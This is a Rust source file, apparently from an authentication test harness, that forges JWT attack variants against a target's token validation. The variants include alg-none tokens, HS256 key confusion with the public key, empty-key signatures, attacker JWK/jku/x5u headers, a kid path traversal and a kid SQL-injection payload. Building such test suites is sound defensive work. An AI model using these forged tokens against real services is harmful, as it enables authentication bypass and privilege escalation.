@@ -1,0 +1,451 @@
+//! JWTs: minted from the profile's key and claims, then spoiled in every way
+//! RFC 8725 and the JWT attack literature describe.
+
+use std::sync::OnceLock;
+
+use authbench_scenarios::case::{JwtCredential, JwtMutation};
+use base64::Engine;
+use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
+use hmac::{KeyInit, Mac};
+use jsonwebtoken::jwk::Jwk;
+use jsonwebtoken::{Algorithm, EncodingKey};
+use serde_json::{Map, Value, json};
+
+use super::{ALNUM, Skip, random_string};
+use crate::target::{JwtTarget, SigningKey};
+
+/// Where attacker-controlled key URLs point: a reserved name that never resolves.
+pub const ATTACKER_URL: &str = "https://attacker.authbench.invalid";
+
+/// Builds tokens for one `[jwt]` section.
+#[derive(Debug)]
+pub struct JwtForge {
+    target: JwtTarget,
+    header_template: Map<String, Value>,
+    claims_template: Map<String, Value>,
+    attacker: OnceLock<Option<(EncodingKey, Jwk)>>,
+}
+
+fn now() -> i64 {
+    std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).map_or(0, |d| d.as_secs() as i64)
+}
+
+fn b64(bytes: &[u8]) -> String {
+    URL_SAFE_NO_PAD.encode(bytes)
+}
+
+fn decode_segment(token: &str, index: usize) -> Option<Map<String, Value>> {
+    let segment = token.split('.').nth(index)?;
+    serde_json::from_slice(&URL_SAFE_NO_PAD.decode(segment).ok()?).ok()
+}
+
+/// The JWS name of `alg`.
+pub fn alg_name(alg: Algorithm) -> &'static str {
+    match alg {
+        Algorithm::HS256 => "HS256",
+        Algorithm::HS384 => "HS384",
+        Algorithm::HS512 => "HS512",
+        Algorithm::ES256 => "ES256",
+        Algorithm::ES384 => "ES384",
+        Algorithm::RS256 => "RS256",
+        Algorithm::RS384 => "RS384",
+        Algorithm::RS512 => "RS512",
+        Algorithm::PS256 => "PS256",
+        Algorithm::PS384 => "PS384",
+        Algorithm::PS512 => "PS512",
+        Algorithm::EdDSA => "EdDSA",
+        _ => "unknown",
+    }
+}
+
+/// Parses a relative time (`now`, `-1h`, `+30s`, `-leeway-1s`) into Unix seconds.
+pub fn relative_time(spec: &str, now: i64, leeway: i64) -> Option<i64> {
+    let spec = spec.trim();
+    if spec == "now" {
+        return Some(now);
+    }
+    let mut total = now;
+    let mut rest = spec;
+    while !rest.is_empty() {
+        let sign = match rest.as_bytes()[0] {
+            b'+' => 1,
+            b'-' => -1,
+            _ => return None,
+        };
+        rest = &rest[1..];
+        let end = rest.find(['+', '-']).unwrap_or(rest.len());
+        let term = &rest[..end];
+        rest = &rest[end..];
+        let seconds = if term == "leeway" {
+            leeway
+        } else {
+            let unit = term.chars().last()?;
+            let n: i64 = term[..term.len() - 1].parse().ok()?;
+            n * match unit {
+                's' => 1,
+                'm' => 60,
+                'h' => 3600,
+                'd' => 86400,
+                _ => return None,
+            }
+        };
+        total += sign * seconds;
+    }
+    Some(total)
+}
+
+fn toml_to_json(value: &toml::Value) -> Value {
+    serde_json::to_value(value).unwrap_or(Value::Null)
+}
+
+impl JwtForge {
+    /// A forge for `target`: header and claims modelled on the profile's token when it has one.
+    pub fn new(target: JwtTarget) -> Self {
+        let from_token = |i| target.token.as_deref().and_then(|t| decode_segment(t, i));
+        let mut header = Map::new();
+        header.insert("alg".into(), json!(alg_name(target.algorithm)));
+        match from_token(0) {
+            Some(h) => {
+                for key in ["typ", "kid"] {
+                    if let Some(v) = h.get(key) {
+                        header.insert(key.into(), v.clone());
+                    }
+                }
+            }
+            None => {
+                header.insert("typ".into(), json!("at+jwt"));
+            }
+        }
+        let mut claims = from_token(1).unwrap_or_default();
+        claims.insert("iss".into(), json!(target.issuer));
+        claims.insert("aud".into(), json!(target.audience));
+        claims.entry("sub").or_insert_with(|| json!("authbench"));
+        if let Some(scope) = &target.required_scope {
+            claims.entry("scope").or_insert_with(|| json!(scope));
+        }
+        JwtForge { target, header_template: header, claims_template: claims, attacker: OnceLock::new() }
+    }
+
+    fn key(&self) -> Result<&SigningKey, Skip> {
+        self.target.signing_key.as_ref().ok_or_else(|| {
+            Skip("the profile's [jwt] has no signing_key_file, so validly signed variants cannot be minted".to_owned())
+        })
+    }
+
+    fn fresh_claims(&self) -> Map<String, Value> {
+        let now = now();
+        let mut claims = self.claims_template.clone();
+        claims.insert("iat".into(), json!(now));
+        claims.insert("nbf".into(), json!(now));
+        claims.insert("exp".into(), json!(now + 300));
+        claims.insert("jti".into(), json!(format!("authbench-{}", random_string(ALNUM, 22))));
+        claims
+    }
+
+    /// A valid token: the profile's, or one minted with its key.
+    pub fn valid_token(&self) -> Result<String, Skip> {
+        match &self.target.token {
+            Some(t) => Ok(t.clone()),
+            None => self.sign(&self.header_template, &self.fresh_claims()),
+        }
+    }
+
+    fn sign(&self, header: &Map<String, Value>, claims: &Map<String, Value>) -> Result<String, Skip> {
+        let key = self.key()?;
+        sign_json(&Value::Object(header.clone()).to_string(), &Value::Object(claims.clone()).to_string(), &key.encoding, key.algorithm)
+    }
+
+    fn attacker_key(&self) -> Result<&(EncodingKey, Jwk), Skip> {
+        self.attacker
+            .get_or_init(|| {
+                let alg = match self.target.algorithm {
+                    a @ (Algorithm::ES256 | Algorithm::EdDSA) => a,
+                    _ => Algorithm::RS256,
+                };
+                let pair = match alg {
+                    Algorithm::ES256 => rcgen::KeyPair::generate_for(&rcgen::PKCS_ECDSA_P256_SHA256).ok()?,
+                    Algorithm::EdDSA => rcgen::KeyPair::generate_for(&rcgen::PKCS_ED25519).ok()?,
+                    _ => rcgen::KeyPair::generate_rsa_for(&rcgen::PKCS_RSA_SHA256, rcgen::RsaKeySize::_2048).ok()?,
+                };
+                let pem = pair.serialize_pem();
+                let key = match alg {
+                    Algorithm::ES256 => EncodingKey::from_ec_pem(pem.as_bytes()).ok()?,
+                    Algorithm::EdDSA => EncodingKey::from_ed_der(&v1_ed25519(pair.serialized_der())?),
+                    _ => EncodingKey::from_rsa_pem(pem.as_bytes()).ok()?,
+                };
+                let jwk = Jwk::from_encoding_key(&key, alg).ok()?;
+                Some((key, jwk))
+            })
+            .as_ref()
+            .ok_or_else(|| Skip("could not generate an attacker key".to_owned()))
+    }
+
+    /// Forges the token `spec` describes.
+    pub fn forge(&self, spec: &JwtCredential) -> Result<String, Skip> {
+        let now = now();
+        let mut header = self.header_template.clone();
+        let mut claims = self.fresh_claims();
+        for (name, value) in &spec.header {
+            header.insert(name.clone(), toml_to_json(value));
+        }
+        for (name, value) in &spec.claims {
+            let json = match (name.as_str(), value) {
+                ("exp" | "nbf" | "iat", toml::Value::String(s)) => json!(
+                    relative_time(s, now, self.target.leeway_seconds)
+                        .ok_or_else(|| Skip(format!("`{s}` is not a relative time (now, -1h, +30s, -leeway-1s)")))?
+                ),
+                _ => self.substitute(toml_to_json(value)),
+            };
+            claims.insert(name.clone(), json);
+        }
+        for name in &spec.remove {
+            claims.remove(name);
+        }
+        let Some(mutation) = spec.mutation else { return self.sign(&header, &claims) };
+        Ok(match mutation {
+            JwtMutation::AlgNone | JwtMutation::AlgNoneCapitalized | JwtMutation::AlgNoneUpper | JwtMutation::AlgNoneMixed => {
+                let spelled = match mutation {
+                    JwtMutation::AlgNone => "none",
+                    JwtMutation::AlgNoneCapitalized => "None",
+                    JwtMutation::AlgNoneUpper => "NONE",
+                    _ => "nOnE",
+                };
+                header.insert("alg".into(), json!(spelled));
+                header.remove("kid");
+                format!("{}.{}.", b64(text(&header).as_bytes()), b64(text(&claims).as_bytes()))
+            }
+            JwtMutation::SignatureStripped => {
+                let t = self.signed(&header, &claims)?;
+                format!("{}.", &t[..t.rfind('.').unwrap_or(t.len())])
+            }
+            JwtMutation::SignatureFlipped => {
+                let t = self.signed(&header, &claims)?;
+                let (input, sig) = t.rsplit_once('.').ok_or_else(|| Skip("the profile's token is not a JWS".into()))?;
+                let mut bytes = URL_SAFE_NO_PAD.decode(sig).map_err(|_| Skip("the profile's token has a bad signature".into()))?;
+                if let Some(b) = bytes.first_mut() {
+                    *b ^= 0x01;
+                }
+                format!("{input}.{}", b64(&bytes))
+            }
+            JwtMutation::PayloadTampered => {
+                let t = self.signed(&header, &claims)?;
+                let parts: Vec<&str> = t.split('.').collect();
+                let mut tampered = decode_segment(&t, 1).unwrap_or_default();
+                tampered.insert("sub".into(), json!("admin"));
+                let scope = tampered.get("scope").and_then(Value::as_str).unwrap_or("").to_owned();
+                tampered.insert("scope".into(), json!(format!("{scope} admin").trim()));
+                format!("{}.{}.{}", parts[0], b64(Value::Object(tampered).to_string().as_bytes()), parts.get(2).unwrap_or(&""))
+            }
+            JwtMutation::Hs256PublicPem | JwtMutation::Hs256PublicJwk => {
+                let key = self.key()?;
+                let pem = key.public_pem.clone().ok_or_else(|| {
+                    Skip("key confusion needs an asymmetric signing key (the target uses HMAC)".to_owned())
+                })?;
+                let secret = if mutation == JwtMutation::Hs256PublicPem {
+                    pem.into_bytes()
+                } else {
+                    public_jwk_text(&key.encoding, key.algorithm)?.into_bytes()
+                };
+                header.insert("alg".into(), json!("HS256"));
+                hmac_sign(&text(&header), &text(&claims), &secret)
+            }
+            JwtMutation::Hs256EmptyKey => {
+                header.insert("alg".into(), json!("HS256"));
+                hmac_sign(&text(&header), &text(&claims), b"")
+            }
+            JwtMutation::EmbeddedJwk | JwtMutation::JkuElsewhere | JwtMutation::X5uElsewhere => {
+                let (key, jwk) = self.attacker_key()?;
+                let alg = match self.target.algorithm {
+                    a @ (Algorithm::ES256 | Algorithm::EdDSA) => a,
+                    _ => Algorithm::RS256,
+                };
+                header.insert("alg".into(), json!(alg_name(alg)));
+                header.insert("kid".into(), json!("authbench-attacker"));
+                match mutation {
+                    JwtMutation::EmbeddedJwk => {
+                        header.insert("jwk".into(), serde_json::to_value(jwk).unwrap_or(Value::Null));
+                    }
+                    JwtMutation::JkuElsewhere => {
+                        header.insert("jku".into(), json!(format!("{ATTACKER_URL}/jwks.json")));
+                    }
+                    _ => {
+                        header.insert("x5u".into(), json!(format!("{ATTACKER_URL}/cert.pem")));
+                    }
+                }
+                sign_json(&text(&header), &text(&claims), key, alg)?
+            }
+            JwtMutation::KidTraversal => {
+                header.insert("alg".into(), json!("HS256"));
+                header.insert("kid".into(), json!("../../../../../../../../dev/null"));
+                hmac_sign(&text(&header), &text(&claims), b"")
+            }
+            JwtMutation::KidInjection => {
+                header.insert("alg".into(), json!("HS256"));
+                header.insert("kid".into(), json!("authbench' UNION SELECT 'authbench' -- "));
+                hmac_sign(&text(&header), &text(&claims), b"authbench")
+            }
+            JwtMutation::TwoSegments => {
+                let t = self.signed(&header, &claims)?;
+                t.split('.').take(2).collect::<Vec<_>>().join(".")
+            }
+            JwtMutation::FourSegments => {
+                let t = self.signed(&header, &claims)?;
+                let sig = t.rsplit('.').next().unwrap_or_default().to_owned();
+                format!("{t}.{sig}")
+            }
+            JwtMutation::PaddedSegments => {
+                let t = self.signed(&header, &claims)?;
+                let parts: Vec<&str> = t.split('.').collect();
+                format!("{}=.{}=.{}", parts[0], parts.get(1).unwrap_or(&""), parts.get(2).unwrap_or(&""))
+            }
+            JwtMutation::StandardBase64 => self.standard_alphabet(&header, &claims)?,
+            JwtMutation::Whitespace => {
+                let t = self.signed(&header, &claims)?;
+                let mid = t.find('.').map_or(t.len() / 2, |i| i + 4);
+                format!("{} {}", &t[..mid], &t[mid..])
+            }
+            JwtMutation::Oversized => {
+                claims.insert("authbench_padding".into(), json!("A".repeat(16 * 1024)));
+                self.sign(&header, &claims).or_else(|_| {
+                    let t = self.valid_token()?;
+                    Ok::<_, Skip>(format!("{t}{}", "A".repeat(16 * 1024)))
+                })?
+            }
+            JwtMutation::ExpAsString => {
+                let exp = claims.get("exp").and_then(Value::as_i64).unwrap_or(now + 300);
+                claims.insert("exp".into(), json!(exp.to_string()));
+                self.sign(&header, &claims)?
+            }
+            JwtMutation::DuplicateSub => {
+                let original = text(&claims);
+                let doubled = format!("{{\"sub\":\"admin\",{}", &original[1..]);
+                let key = self.key()?;
+                sign_json(&text(&header), &doubled, &key.encoding, key.algorithm)?
+            }
+            JwtMutation::DuplicateAlg => {
+                let original = text(&header);
+                let doubled = format!("{{\"alg\":\"none\",{}", &original[1..]);
+                let key = self.key()?;
+                sign_json(&doubled, &text(&claims), &key.encoding, key.algorithm)?
+            }
+            JwtMutation::OtherAlgorithm => {
+                let (alg, key) = self
+                    .target
+                    .variants
+                    .iter()
+                    .find_map(|(alg, _, key)| key.as_ref().filter(|_| *alg != self.target.algorithm).map(|k| (*alg, k)))
+                    .ok_or_else(|| Skip("the profile gives no key of another algorithm ([[jwt.variants]])".to_owned()))?;
+                header.insert("alg".into(), json!(alg_name(alg)));
+                header.remove("kid");
+                sign_json(&text(&header), &text(&claims), &key.encoding, alg)?
+            }
+        })
+    }
+
+    /// Signed with the profile's key, or the profile's token when there is no key.
+    fn signed(&self, header: &Map<String, Value>, claims: &Map<String, Value>) -> Result<String, Skip> {
+        self.sign(header, claims).or_else(|_| self.valid_token())
+    }
+
+    fn substitute(&self, value: Value) -> Value {
+        match value {
+            Value::String(s) if s == "$audience" => json!(self.target.audience),
+            Value::String(s) if s == "$issuer" => json!(self.target.issuer),
+            Value::Array(items) => Value::Array(items.into_iter().map(|v| self.substitute(v)).collect()),
+            other => other,
+        }
+    }
+
+    /// A validly signed token re-encoded in the standard base64 alphabet with
+    /// padding: padding a header member until the encoding differs.
+    fn standard_alphabet(&self, header: &Map<String, Value>, claims: &Map<String, Value>) -> Result<String, Skip> {
+        let key = self.key()?;
+        for pad in ["", "?", "??", "???", ">>>", "~~~"] {
+            let mut header = header.clone();
+            if !pad.is_empty() {
+                header.insert("authbench".into(), json!(pad));
+            }
+            let h = Value::Object(header).to_string();
+            let c = Value::Object(claims.clone()).to_string();
+            let input = format!("{}.{}", STANDARD.encode(&h), STANDARD.encode(&c));
+            let url_input = format!("{}.{}", b64(h.as_bytes()), b64(c.as_bytes()));
+            if input != url_input {
+                let sig = jsonwebtoken::crypto::sign(input.as_bytes(), &key.encoding, key.algorithm)
+                    .map_err(|e| Skip(format!("signing failed: {e}")))?;
+                let sig = STANDARD.encode(URL_SAFE_NO_PAD.decode(&sig).unwrap_or_default());
+                return Ok(format!("{input}.{sig}"));
+            }
+        }
+        Err(Skip("could not produce a token that differs in the standard alphabet".to_owned()))
+    }
+}
+
+fn text(map: &Map<String, Value>) -> String {
+    Value::Object(map.clone()).to_string()
+}
+
+/// Signs raw header and payload JSON text.
+pub fn sign_json(header: &str, claims: &str, key: &EncodingKey, alg: Algorithm) -> Result<String, Skip> {
+    let input = format!("{}.{}", b64(header.as_bytes()), b64(claims.as_bytes()));
+    let sig = jsonwebtoken::crypto::sign(input.as_bytes(), key, alg).map_err(|e| Skip(format!("signing failed: {e}")))?;
+    Ok(format!("{input}.{sig}"))
+}
+
+/// HS256 over raw JSON with any key, including the empty one jsonwebtoken refuses.
+pub fn hmac_sign(header: &str, claims: &str, secret: &[u8]) -> String {
+    let input = format!("{}.{}", b64(header.as_bytes()), b64(claims.as_bytes()));
+    let mut mac = hmac::Hmac::<sha2::Sha256>::new_from_slice(secret)
+        .unwrap_or_else(|_| unreachable!("HMAC accepts keys of any length"));
+    mac.update(input.as_bytes());
+    format!("{input}.{}", b64(&mac.finalize().into_bytes()))
+}
+
+/// The public JWK of `key` in RFC 7638 canonical member order (the form a
+/// confused verifier would most likely have as text).
+fn public_jwk_text(key: &EncodingKey, alg: Algorithm) -> Result<String, Skip> {
+    let jwk = Jwk::from_encoding_key(key, alg).map_err(|e| Skip(format!("cannot derive the public JWK: {e}")))?;
+    let value = serde_json::to_value(&jwk).unwrap_or(Value::Null);
+    let members: &[&str] = match value.get("kty").and_then(Value::as_str) {
+        Some("RSA") => &["e", "kty", "n"],
+        Some("EC") => &["crv", "kty", "x", "y"],
+        _ => &["crv", "kty", "x"],
+    };
+    let parts: Vec<String> =
+        members.iter().map(|m| format!("\"{m}\":{}", value.get(*m).cloned().unwrap_or(Value::Null))).collect();
+    Ok(format!("{{{}}}", parts.join(",")))
+}
+
+/// rcgen writes Ed25519 keys as PKCS#8 v2; jsonwebtoken wants v1.
+fn v1_ed25519(v2: &[u8]) -> Option<Vec<u8>> {
+    // The seed is the OCTET STRING 04 20 <32 bytes> inside the private key field.
+    let at = v2.windows(2).position(|w| w == [0x04, 0x20])?;
+    let seed = v2.get(at + 2..at + 34)?;
+    let mut der = vec![0x30, 0x2e, 0x02, 0x01, 0x00, 0x30, 0x05, 0x06, 0x03, 0x2b, 0x65, 0x70, 0x04, 0x22, 0x04, 0x20];
+    der.extend_from_slice(seed);
+    Some(der)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn relative_times() {
+        assert_eq!(relative_time("now", 1000, 5), Some(1000));
+        assert_eq!(relative_time("-1h", 10_000, 5), Some(6400));
+        assert_eq!(relative_time("-leeway-1s", 1000, 5), Some(994));
+        assert_eq!(relative_time("+leeway+60s", 1000, 60), Some(1120));
+        assert_eq!(relative_time("+2d", 0, 0), Some(172_800));
+        assert_eq!(relative_time("tomorrow", 0, 0), None);
+        assert_eq!(relative_time("-5y", 0, 0), None);
+    }
+
+    #[test]
+    fn empty_key_hmac_verifies_with_an_empty_key() {
+        let token = hmac_sign("{\"alg\":\"HS256\"}", "{}", b"");
+        let (input, sig) = token.rsplit_once('.').unwrap();
+        let mut mac = hmac::Hmac::<sha2::Sha256>::new_from_slice(b"").unwrap();
+        mac.update(input.as_bytes());
+        mac.verify_slice(&URL_SAFE_NO_PAD.decode(sig).unwrap()).unwrap();
+    }
+}
